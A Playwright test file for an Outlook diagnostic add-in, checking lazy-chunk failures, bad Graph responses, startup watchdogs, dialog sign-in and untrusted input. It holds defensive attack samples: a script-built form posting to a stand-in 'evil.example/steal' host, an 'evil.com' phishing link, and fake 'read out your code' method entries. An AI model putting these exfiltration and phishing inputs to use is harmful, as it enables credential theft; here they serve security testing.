// The fault matrix, third round (README "Fault matrix"): a part that fails after the first screen fails alone and in
// place; an unreadable Graph answer is a failed check, never "no method"; a page whose first scripts never arrive
// says so; dialog.html signs in only with the organisation's own settings; free text, foreign hosts and cut-off IDs
// never reach the pane as if they were ours. Every test here also fails on any unhandled rejection or page error
// (test/support/e2eSetup.ts).
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Route } from "playwright-core";
import { parseFacts } from "../../src/diagnosis";
import {
  BUILD,
  cspViolationsOf,
  openProbe,
  READY,
  rejectionsOf,
  useBrowserAndServer,
  type PageProbe,
} from "../support/browser";
import {
  CONFIG,
  checksSettled,
  hostInfoQuery,
  METHODS,
  openInHost,
  type HostOptions,
  type HostProbe,
} from "../support/officeHost";
import { factsHash, scenarioFacts } from "../support/pane";
import { replay, trail } from "./fixtures/replay";

const suite = useBrowserAndServer();
const FIRST_SCREEN = '[data-testid="diagnosis"][data-first-screen="ready"]';
const START_FAILURE = '[data-testid="diagnosis"][data-mode="start-failure"]';
/**
 * No address: the footer's one button is Copy report (with an address it is Send to IT). No client ID either: the
 * live checks' sign-in chunks (MSAL and its library) stay out of the way, so what loads after the first screen is
 * the pane's own below-the-fold parts.
 */
const NO_ADDRESS = {
  organizationName: CONFIG.organizationName,
  helpDesk: { name: "Contoso IT", phone: "+1 555 0100" },
};

/** The value `read` gives once `ok` holds, or its last value after `timeout` ms. */
async function until<T>(
  read: () => T | Promise<T>,
  ok: (v: T) => boolean,
  timeout = 10000
): Promise<T> {
  const end = Date.now() + timeout;
  for (;;) {
    const v = await read();
    if (ok(v) || Date.now() > end) return v;
    await new Promise((r) => setTimeout(r, 100));
  }
}

async function noRejections(probe: PageProbe) {
  expect(await rejectionsOf(probe.page)).toEqual([]);
  expect(probe.rejections).toEqual([]);
  expect(probe.pageErrors).toEqual([]);
}

/**
 * The pane's own lazy script and style files, as a healthy run asks for them: every file of its own origin except
 * those the page itself names (the entry script, the watchdog, their styles). Some of them the first screen needs
 * (the pane's view, the Office start-up), the rest lie below it; what happens when each fails tells them apart.
 */
async function lazyChunks(): Promise<string[]> {
  const probe = await openInHost(suite.browser(), suite.server(), {
    profile: "web",
    config: NO_ADDRESS,
  });
  await probe.open();
  await checksSettled(probe);
  const files = await probe.page.evaluate(() => {
    const named = new Set(
      [...document.querySelectorAll("script[src], link[rel=stylesheet][href]")].map((e) =>
        new URL((e as HTMLScriptElement).src || (e as HTMLLinkElement).href).pathname.slice(1)
      )
    );
    return performance
      .getEntriesByType("resource")
      .filter((e) => new URL(e.name).origin === location.origin)
      .map((e) => new URL(e.name).pathname.slice(1))
      .filter((f) => /\.(js|css)$/.test(f) && !named.has(f));
  });
  await probe.context.close();
  return [...new Set(files)];
}

const copied = (probe: PageProbe) =>
  probe.page
    .waitForFunction(() => (window as unknown as { __copied?: string[] }).__copied?.at(-1), null, {
      timeout: 5000,
    })
    .then((h) => h.jsonValue() as Promise<string>);

function factsIn(text: string) {
  const marker = text.indexOf("Facts report (JSON):");
  expect(marker).toBeGreaterThan(-1);
  const parsed = parseFacts(JSON.parse(text.slice(text.indexOf("{", marker))));
  if (!parsed.ok) throw new Error(parsed.message);
  return parsed.facts;
}

describe("a part below the first screen fails to load (N1)", () => {
  let chunks: string[] = [];
  beforeAll(async () => {
    chunks = await lazyChunks();
  });

  test("the pane has lazy chunks, the below-the-fold pane-more chunk among them", () => {
    expect(chunks.some((c) => /^pane-more\.[0-9a-f]{8}\.js$/.test(c))).toBe(true);
  });

  test("each one failing: below the first screen, the first screen stays and the part says so in place with Run again; before it, the start-failure pane; Copy report works", async () => {
    const belowTheFold: string[] = [];
    for (const chunk of chunks) {
      const probe = await openInHost(suite.browser(), suite.server(), {
        profile: "web",
        config: NO_ADDRESS,
        captureClipboard: true,
      });
      let blocked = true;
      await probe.context.route(`**/${chunk}`, (route) =>
        blocked ? route.abort("failed") : route.continue()
      );
      await probe.open();
      const ended = await probe.page.waitForSelector(`${FIRST_SCREEN}, ${START_FAILURE}`);
      if ((await ended.getAttribute("data-mode")) === "start-failure") {
        // A chunk the first screen needs: the start failure says so, with Run again and the way to IT.
        expect(await probe.page.getByTestId("diagnosis").getAttribute("data-start-failure")).toBe(
          "chunk"
        );
        expect(await probe.page.getByTestId("run-again").isVisible()).toBe(true);
        expect(await probe.page.getByTestId("handoff").isVisible()).toBe(true);
        await noRejections(probe);
        await probe.context.close();
        continue;
      }
      belowTheFold.push(chunk);
      const failed = probe.page.getByTestId("part-failed");
      await failed
        .first()
        .waitFor({ timeout: 10000 })
        .catch((e: Error) => {
          throw new Error(`${chunk} of ${chunks.join(", ")}: ${e.message}`);
        });
      // The answer and the way to IT are still there; the failed parts say so where they would have been.
      expect(await probe.page.getByTestId("diagnosis").getAttribute("data-state")).not.toBe(
        "error"
      );
      expect(
        await probe.page.locator('[data-testid="summary"], [data-testid="ask"]').count()
      ).toBeGreaterThan(0);
      expect(await probe.page.getByTestId("part-run-again").first().isVisible()).toBe(true);
      // Copy report from the first script's plain report: the facts replay.
      await probe.page.getByTestId("handoff").click();
      const facts = factsIn(await copied(probe));
      expect((facts.errors ?? []).map((e) => `${e.area} ${e.code}`)).toContain(
        "ui chunk_load_error"
      );
      await noRejections(probe);
      // Run again, once the file is there again: the part loads in place.
      blocked = false;
      // Each failed part has its own Run again.
      for (let left = await failed.count(); left > 0; left--) {
        await probe.page.getByTestId("part-run-again").first().click();
        await probe.page.waitForFunction(
          (n) => document.querySelectorAll('[data-testid="part-failed"]').length < n,
          left,
          { timeout: 10000 }
        );
      }
      await checksSettled(probe);
      await noRejections(probe);
      await probe.context.close();
    }
    expect(belowTheFold.some((c) => c.startsWith("pane-more."))).toBe(true);
  });

  test("a chunk that fails once is asked for again and the part loads, nothing failed on screen", async () => {
    const chunk = chunks.find((c) => c.startsWith("pane-more.") && c.endsWith(".js")) as string;
    const probe = await openInHost(suite.browser(), suite.server(), { profile: "web" });
    let asked = 0;
    await probe.context.route(`**/${chunk}`, (route) =>
      ++asked === 1 ? route.abort("failed") : route.continue()
    );
    await probe.open();
    await checksSettled(probe);
    expect(asked).toBeGreaterThanOrEqual(2);
    expect(await probe.page.getByTestId("part-failed").count()).toBe(0);
    await noRejections(probe);
    await probe.context.close();
  });

  test("with an address configured, Send to IT still opens a message carrying the facts", async () => {
    const chunk = chunks.find((c) => c.startsWith("pane-more.") && c.endsWith(".js")) as string;
    const probe = await openInHost(suite.browser(), suite.server(), { profile: "web" });
    await probe.context.route(`**/${chunk}`, (route) => route.abort("failed"));
    await probe.open();
    await probe.page.getByTestId("part-failed").first().waitFor({ timeout: 10000 });
    await probe.page.getByTestId("handoff").click();
    const message = await probe.page
      .waitForFunction(
        () => (window as unknown as { __messages?: { htmlBody: string }[] }).__messages?.at(-1),
        null,
        { timeout: 5000 }
      )
      .then((h) => h.jsonValue() as Promise<{ htmlBody: string; toRecipients: string[] }>);
    expect(message.toRecipients).toEqual([CONFIG.helpDesk.email]);
    expect(message.htmlBody).toContain("Facts report (JSON):");
    await noRejections(probe);
    await probe.context.close();
  });
});

describe("a 2xx Graph answer that can't be read (N2)", () => {
  const answers: [string, (route: Route) => Promise<void>][] = [
    [
      "broken JSON",
      (r) => r.fulfill({ status: 200, contentType: "application/json", body: "{not json" }),
    ],
    [
      "an HTML page",
      (r) => r.fulfill({ status: 200, contentType: "text/html", body: "<!doctype html><p>proxy" }),
    ],
    [
      "a value that isn't a list",
      (r) => r.fulfill({ status: 200, contentType: "application/json", body: '{"value":"oops"}' }),
    ],
  ];
  test.each(answers)(
    "methods: %s is a failed check with graph bad_body, never 'register a method'",
    async (_, bad) => {
      const r = await replay(suite.browser(), suite.server(), {
        profile: "web",
        graph: (route, path) =>
          path.includes("methods")
            ? bad(route)
            : route.fulfill({
                status: 200,
                contentType: "application/json",
                body: '{"id":"inbox"}',
              }),
      });
      expect(r.facts.probes.authMethods.status).toBe("failed");
      expect(r.findings).not.toContain("mfa-method-missing");
      expect(r.actions).not.toContain("register-mfa");
      expect(trail(r)).toContainEqual(
        expect.stringMatching(/^graph bad_body: \/me\/authentication\/methods: HTTP 200 with /)
      );
      expect(r.checks.methods).not.toBe("ok");
      await r.probe.context.close();
    }
  );

  test("mailbox: an HTML 200 is a failed check (graph_bad_body), not 'your mailbox answers'", async () => {
    const r = await replay(suite.browser(), suite.server(), {
      profile: "web",
      graph: (route, path) =>
        path.includes("mailFolders")
          ? route.fulfill({
              status: 200,
              contentType: "text/html",
              body: "<html>sign in to the proxy</html>",
            })
          : route.fulfill({
              status: 200,
              contentType: "application/json",
              body: JSON.stringify(METHODS),
            }),
    });
    expect(r.facts.probes.mailbox).toMatchObject({ status: "failed", errorCode: "graph_bad_body" });
    expect(r.findings).not.toContain("mailbox-ok");
    await r.probe.context.close();
  });
});

describe("the page's first scripts never arrive (N6)", () => {
  const never = () => new Promise<void>(() => undefined);
  const serveConfig = (config: unknown) =>
    suite.server().overrides.set("/config.json", (_req, res) => {
      res.writeHead(200, { "Content-Type": "application/json" });
      res.end(JSON.stringify(config));
    });
  afterEach(() => suite.server().overrides.delete("/config.json"));

  async function expectWatchdog(probe: PageProbe, start: number, helpDesk: RegExp | null) {
    const box = probe.page.getByTestId("start-watchdog");
    await box.waitFor({ timeout: 20000 });
    const after = Date.now() - start;
    expect(after).toBeGreaterThanOrEqual(11000);
    expect(after).toBeLessThan(16000);
    expect(await probe.page.getByTestId("watchdog-run-again").isVisible()).toBe(true);
    if (helpDesk) {
      const desk = probe.page.getByTestId("watchdog-help-desk");
      await desk.waitFor({ timeout: 4000 });
      expect(await desk.textContent()).toMatch(helpDesk);
    } else {
      await probe.page.waitForTimeout(500);
      expect(await probe.page.getByTestId("watchdog-help-desk").count()).toBe(0);
    }
    expect(await cspViolationsOf(probe.page)).toEqual([]);
  }

  test("office.js never answers: within about 12 s the pane says it couldn't start, with Run again and the help desk", async () => {
    serveConfig(CONFIG);
    const probe = await openProbe(suite.browser(), { officeJs: never });
    const start = Date.now();
    await probe.page.goto(`${suite.server().url}taskpane.html?${hostInfoQuery("classic")}`, {
      waitUntil: "commit",
    });
    await expectWatchdog(probe, start, /Contoso IT.*servicedesk@contoso\.example/);
    expect(await probe.page.getByTestId("start-watchdog").textContent()).toMatch(/couldn't start/);
    await noRejections(probe);
    await probe.context.close();
  });

  test("an initial script 404s: not stuck on Loading…, the watchdog speaks", async () => {
    const html = readFileSync(join(BUILD, "taskpane.html"), "utf8");
    const initial = [...html.matchAll(/<script defer src=([^ >]+)>/g)].map((m) => m[1] as string);
    const vendor = initial.find((f) => !f.startsWith("taskpane.")) as string;
    expect(vendor).toBeDefined();
    const probe = await openInHost(suite.browser(), suite.server(), { profile: "classic" });
    await probe.context.route(`**/${vendor}`, (route) => route.fulfill({ status: 404, body: "" }));
    const start = Date.now();
    await probe.open();
    await expectWatchdog(probe, start, /Contoso IT/);
    await noRejections(probe);
    await probe.context.close();
  });

  test("dialog.html while office.js never answers: it says sign-in couldn't start, with Run again", async () => {
    const probe = await openProbe(suite.browser(), { officeJs: never });
    const start = Date.now();
    await probe.page.goto(`${suite.server().url}dialog.html`, { waitUntil: "commit" });
    await expectWatchdog(probe, start, null);
    expect(await probe.page.getByTestId("start-watchdog").textContent()).toMatch(
      /Sign-in couldn't start/
    );
    await noRejections(probe);
    await probe.context.close();
  });
});

describe("dialog.html (N3, I1)", () => {
  /** office.js as a page opened like a web dialog would see it: Office.onReady resolves and messageParent exists. */
  const DIALOG_OFFICE = `window.__parentMessages = [];
    window.Office = {
      onReady: function () { return Promise.resolve({ host: "Outlook" }); },
      context: { ui: { messageParent: function (m) { window.__parentMessages.push(m); } } }
    };`;
  const dialogProbe = () =>
    openProbe(suite.browser(), {
      officeJs: (route) =>
        route.fulfill({ status: 200, contentType: "text/javascript", body: DIALOG_OFFICE }),
    });

  beforeEach(() =>
    suite.server().overrides.set("/config.json", (_req, res) => {
      res.writeHead(200, { "Content-Type": "application/json" });
      res.end(JSON.stringify(CONFIG));
    })
  );
  afterEach(() => suite.server().overrides.delete("/config.json"));

  test("a foreign client ID in its address: refused, no request to Microsoft's sign-in", async () => {
    const probe = await dialogProbe();
    await probe.page.goto(
      `${suite.server().url}dialog.html?clientId=22222222-2222-2222-2222-222222222222`
    );
    const sent = await probe.page
      .waitForFunction(
        () => (window as unknown as { __parentMessages: string[] }).__parentMessages[0]
      )
      .then((h) => h.jsonValue() as Promise<string>);
    expect(JSON.parse(sent)).toEqual({
      status: "failed",
      errorCode: "dialog_bad_settings",
      accessToken: null,
    });
    expect(await probe.page.locator("body").textContent()).toMatch(
      /settings this page received are not valid/
    );
    await new Promise((r) => setTimeout(r, 500));
    expect(probe.externalRequests.filter((u) => u.includes("login.microsoftonline.com"))).toEqual(
      []
    );
    await noRejections(probe);
    await probe.context.close();
  });

  test("no settings in its address: it signs in with config.json's client ID", async () => {
    const probe = await dialogProbe();
    await probe.page.goto(`${suite.server().url}dialog.html`);
    const authorize = await until(
      () => probe.externalRequests.find((u) => u.includes("/oauth2/v2.0/authorize")) ?? "",
      (u) => u !== ""
    );
    expect(authorize).toContain(`client_id=${CONFIG.auth.clientId}`);
    await probe.context.close();
  });

  test("a script-created form can't navigate the dialog away (form-action 'none')", async () => {
    const probe = await openProbe(suite.browser());
    await probe.page.goto(`${suite.server().url}dialog.html`);
    await probe.page.evaluate(() => {
      const f = document.createElement("form");
      f.action = "https://evil.example/steal";
      f.method = "post";
      document.body.appendChild(f);
      f.submit();
    });
    const violations = await until(
      () => cspViolationsOf(probe.page),
      (v) => v.some((x) => x.startsWith("form-action"))
    );
    expect(violations).toContainEqual(expect.stringMatching(/^form-action blocked/));
    expect(probe.externalRequests.filter((u) => u.includes("evil.example"))).toEqual([]);
    expect(new URL(probe.page.url()).pathname).toBe("/dialog.html");
    await probe.context.close();
  });
});

describe("what the pane shows from untrusted input (N4, N5, N7, N8)", () => {
  test("N4: free text in the methods list never shows as a sign-in method", async () => {
    const facts = scenarioFacts("password-expired");
    const raw = {
      ...facts,
      probes: {
        ...facts.probes,
        token: { status: "ok", errorCode: null },
        mailbox: { status: "ok", httpStatus: 200 },
        authMethods: {
          status: "ok",
          methods: [
            "microsoftAuthenticator",
            "IT: call +1 555 0100 and read out your code",
            "Verified by Contoso IT ✔ safe to approve",
          ],
        },
      },
    };
    const probe = await openProbe(suite.browser());
    await probe.page.goto(`${suite.server().url}taskpane.html${factsHash(raw as never)}`);
    await probe.page.waitForSelector(READY);
    const row = await probe.page.locator('[data-check="methods"]').textContent();
    expect(row).toMatch(/Microsoft Authenticator/);
    // textContent, not innerText: the checks' rows sit in a closed disclosure, and a screen reader reads them too.
    expect(await probe.page.locator("main").textContent()).not.toMatch(
      /call \+1 555 0100|safe to approve/
    );
    await noRejections(probe);
    await probe.context.close();
  });

  test("N5: a help desk at https://com/ widens nothing: the evil.com link is refused, the warning names it", async () => {
    const probe = await openInHost(suite.browser(), suite.server(), {
      profile: "web",
      config: {
        ...CONFIG,
        helpDesk: { ...CONFIG.helpDesk, url: "https://com/" },
        links: [{ label: "Reset your password", url: "https://evil.com/reset" }],
      },
    });
    await probe.open();
    await checksSettled(probe);
    expect(await probe.page.getByTestId("config-warning").textContent()).toMatch(
      /helpDesk\.url: .*single-label/
    );
    expect(await probe.page.locator('a[href*="evil.com"], a[href="https://com/"]').count()).toBe(0);
    expect(await probe.page.locator("main").innerText()).not.toMatch(/Reset your password/);
    await noRejections(probe);
    await probe.context.close();
  });

  test("N7: a tenant ID near the cut of an error message leaves no part of itself in the report or the console", async () => {
    const tenant = "72f988bf-86f1-41af-91ab-2d7cd011db47";
    const r = await replay(suite.browser(), suite.server(), {
      profile: "new-outlook",
      silentError: {
        status: "PERSISTENT_ERROR",
        code: "invalid_request",
        description: `${"The request was refused by the directory service ".repeat(1)}for tenant ${tenant} and app x.`,
      },
    } as HostOptions);
    expect(JSON.stringify(r.facts)).not.toMatch(/72f988bf/);
    expect([...r.consoleErrors, ...(r.probe as HostProbe).consoleErrors].join("\n")).not.toMatch(
      /72f988bf/
    );
    await r.probe.context.close();
  });

  test("N8: a #facts link with thousands of made-up ticked keys gives one counted note, and a small Copy report", async () => {
    const facts = scenarioFacts("password-expired");
    const raw = {
      ...facts,
      userReport: {
        ticked: Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`k${i}`, []])),
      },
    };
    const probe = await openProbe(suite.browser());
    await probe.page.addInitScript(() => {
      const w = window as unknown as { __copied: string[] };
      w.__copied = [];
      Object.defineProperty(navigator, "clipboard", {
        configurable: true,
        value: { writeText: async (text: string) => void w.__copied.push(text) },
      });
    });
    await probe.page.goto(`${suite.server().url}taskpane.html${factsHash(raw as never)}`);
    await probe.page.waitForSelector(READY);
    await probe.page.getByTestId("handoff").click();
    await probe.page.getByTestId("sheet-copy").click();
    const text = await copied(probe);
    expect(text.length).toBeLessThan(20000);
    expect(text).toMatch(
      /userReport\.ticked: 2000 keys \("k0", "k1", "k2", and 1997 more\) ignored/
    );
    await noRejections(probe);
    await probe.context.close();
  });

  test("N9: on a phone (mail link), a long note in another script leaves the facts JSON first and whole, cut between lines", async () => {
    const probe = await openInHost(suite.browser(), suite.server(), { profile: "ios" });
    await probe.page.addInitScript(() => {
      const w = window as unknown as { __windowOpen: string[] };
      w.__windowOpen = [];
      window.open = (url?: string | URL) => {
        w.__windowOpen.push(String(url));
        return null;
      };
    });
    await probe.open();
    await checksSettled(probe);
    await probe.page.getByTestId("handoff").click();
    await probe.page.getByTestId("user-note").fill("😀".repeat(240));
    await probe.page.getByTestId("send-to-it").click();
    const url = await probe.page
      .waitForFunction(() => (window as unknown as { __windowOpen: string[] }).__windowOpen.at(-1))
      .then((h) => h.jsonValue() as Promise<string>);
    expect(url.startsWith("mailto:")).toBe(true);
    expect(url.length).toBeLessThanOrEqual(2000);
    const body = decodeURIComponent(url.slice(url.indexOf("&body=") + 6));
    const lines = body.split("\n");
    expect(lines[0]).toBe("Facts report (JSON):");
    const replayed = parseFacts(JSON.parse(lines[1] as string));
    expect(replayed.ok).toBe(true);
    expect(body).toContain("Findings:");
    expect(body).toMatch(/\[Shortened to fit a mail link/);
    await noRejections(probe);
    await probe.context.close();
  });
});
